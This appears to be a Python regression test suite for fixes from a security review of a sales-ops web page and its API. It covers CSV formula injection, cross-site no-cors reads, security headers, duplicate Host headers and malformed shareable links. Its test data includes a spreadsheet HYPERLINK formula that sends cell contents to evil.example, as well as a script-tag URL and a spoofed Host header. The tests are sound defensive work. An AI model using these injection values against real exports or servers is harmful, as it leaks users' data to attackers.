"""Attacks on issue 14's sales-ops page and its API found by its review
(R14), each fixed; every test failed before its fix. In the suite.

1. The page's CSV download guarded only a cell's start; the CLI's --csv also
   guards after each ';', ',' and TAB inside a cell (tools/table.c
   csv_field). Fixed in web/app.js csvCell, as the CLI.
2. Without tokens, a foreign page's no-cors GET (an <img>, a <script>, a
   fetch with mode 'no-cors': no Origin, own Host) reached every data route:
   a hot-list scan (up to 100,000 rank entries) for any site the operator
   visits (over 101,000 organizations, one `?rule=<one none has>&limit=1000`
   read took 1.9-2.6 s). Fixed in collector/api_guard.c: Sec-Fetch-Site
   cross-site and same-site are refused (403 forbidden_site).
3. Error answers carried neither nosniff nor a CSP. Fixed in collector/api.c
   queue(): X-Content-Type-Options: nosniff and `default-src 'none';
   frame-ancestors 'none'` on every API answer.
4. Two Host headers: the first was taken. Fixed: 400 (RFC 9112 3.2).
5. A shareable link whose org is not valid percent-encoding threw URIError
   out of route() (a blank page). Fixed in web/app.js route(): said, not
   thrown.
"""

import json
import os
import subprocess
import tempfile
import unittest

from harness import CLI_BIN, REPO, CollectorCase, Collector
from test_page_attack_review import (CSP, HOSTILE_DOMAIN, HOSTILE_VERSION, import_hostile,
                                     raw_request, req, run_js_function)

NAME = 'Acme;=HYPERLINK("http://evil.example/?"&A1)'
OWNER = "=1+2;@SUM(1)"


class KnownOpenPage(CollectorCase):

    @classmethod
    def setUpClass(cls):
        c = Collector(name="page-open")
        cls.addClassCleanup(c.close)
        import_hostile(c)
        c.start()
        cls.addClassCleanup(c.stop)
        cls.c = c
        cls.port = c.api_port
        cls.own = "127.0.0.1:%d" % c.api_port

    def send(self, method, target, headers, body=b""):
        return raw_request(self.port, req(method, target, headers, body))

    def test_1_csv_cells_guarded_after_separators_like_the_cli(self):
        csv = ('domain,name,owner\n%s,"%s","%s"\n' % (HOSTILE_DOMAIN, NAME.replace('"', '""'),
                                                      OWNER)).encode()
        r = self.send("PUT", "/v1/named-accounts",
                      [("Host", self.own), ("Content-Type", "text/csv")], csv)
        self.assertEqual(r.status, 200, r.body)
        cli = subprocess.run([CLI_BIN, "hot", "--csv", "--url", "http://" + self.own],
                             capture_output=True, text=True, timeout=60,
                             stdin=subprocess.DEVNULL)
        self.assertEqual(cli.returncode, 0, cli.stderr)
        self.assertIn(";'=HYPERLINK", cli.stdout, "the CLI guards after ';'")
        self.assertIn(";'@SUM", cli.stdout)
        page = run_js_function("csvCell", [NAME, OWNER, HOSTILE_VERSION, "1.0\t=1+1",
                                           "1.0,=1+1"])
        for cell in page:
            with self.subTest(cell=cell):
                self.assertRegex(cell, r"[;,\t]'[=+\-@]", "the page's CSV guards as the CLI's")

    def test_2_cross_site_no_cors_reads_refused(self):
        for dest in ("script", "image", "empty"):
            for target in ("/v1/accounts/hot?limit=1000&rule=second_install",
                           "/v1/accounts/domain:" + HOSTILE_DOMAIN, "/v1/signals"):
                with self.subTest(dest=dest, target=target):
                    r = self.send("GET", target, [
                        ("Host", self.own), ("Sec-Fetch-Site", "cross-site"),
                        ("Sec-Fetch-Mode", "no-cors"), ("Sec-Fetch-Dest", dest)])
                    self.assertEqual(r.status, 403, r.body[:200])
        # the page's own calls and the CLI (no Sec-Fetch-*) go on
        r = self.send("GET", "/v1/accounts/hot", [("Host", self.own),
                                                  ("Sec-Fetch-Site", "same-origin")])
        self.assertEqual(r.status, 200)

    def test_3_error_answers_carry_nosniff_and_a_csp(self):
        for method, target in (("GET", "/assets/<script>alert(1)</script>"), ("HEAD", "/"),
                               ("POST", "/"), ("GET", "/nope"), ("GET", "/v1/accounts/hot")):
            with self.subTest(method=method, target=target):
                r = self.send(method, target, [("Host", self.own)])
                self.assertEqual(r.headers.get("x-content-type-options"), "nosniff", r.headers)
                csp = r.headers.get("content-security-policy", "")
                self.assertIn("frame-ancestors 'none'", csp, r.headers)
                self.assertTrue(csp == CSP or "default-src 'none'" in csp, csp)

    def test_4_two_host_headers_are_400(self):
        r = self.send("GET", "/v1/rules", [("Host", self.own), ("Host", "evil.example")])
        self.assertEqual(r.status, 400, r.body[:200])


BROWSER_JS = r"""
const { chromium } = require('playwright-core');
(async () => {
  const cfg = JSON.parse(process.argv[2]);
  const browser = await chromium.launch({ executablePath: cfg.chromium, args: ['--no-sandbox'] });
  const out = {};
  try {
    for (const [name, hash] of Object.entries(cfg.hashes)) {
      const page = await browser.newPage();
      const errors = [];
      page.on('pageerror', (e) => errors.push(String(e)));
      await page.goto(cfg.base + '/' + hash);
      let status = '';
      try {
        await page.waitForFunction(() => document.querySelector('#status').textContent !== '' &&
          !/^Loading/.test(document.querySelector('#status').textContent), null,
          { timeout: 5000 });
      } catch (e) { /* nothing said: reported as such */ }
      status = await page.textContent('#status');
      out[name] = { status, errors };
      await page.close();
    }
  } finally { await browser.close(); }
  process.stdout.write(JSON.stringify(out));
})().catch((e) => { console.error(e); process.exit(1); });
"""


class KnownOpenPageBrowser(CollectorCase):
    """In Debian's chromium (playwright-core from tests/ui)."""

    def test_5_a_malformed_shareable_link_says_so(self):
        c = self.collector(name="page-open-browser")
        self.addCleanup(c.stop)
        with tempfile.NamedTemporaryFile("w", suffix=".js", dir=c.root, delete=False) as f:
            f.write(BROWSER_JS)
        cfg = {"chromium": os.environ.get("WL_CHROMIUM", "/usr/bin/chromium"),
               "base": "http://127.0.0.1:%d" % c.api_port,
               "hashes": {"malformed": "#/accounts/%E0%A4%A", "plain": "#/accounts/nope"}}
        env = dict(os.environ, NODE_PATH=os.path.join(REPO, "tests", "ui", "node_modules"))
        r = subprocess.run([os.environ.get("WL_NODE", "node"), f.name, json.dumps(cfg)],
                           capture_output=True, text=True, timeout=60, env=env,
                           stdin=subprocess.DEVNULL)
        self.assertEqual(r.returncode, 0, r.stderr)
        got = json.loads(r.stdout)
        self.assertIn("No such account", got["plain"]["status"], got)  # the control
        self.assertEqual(got["plain"]["errors"], [], got)
        self.assertEqual(got["malformed"]["errors"], [], got)
        self.assertIn("No such account", got["malformed"]["status"], got)


if __name__ == "__main__":
    unittest.main()
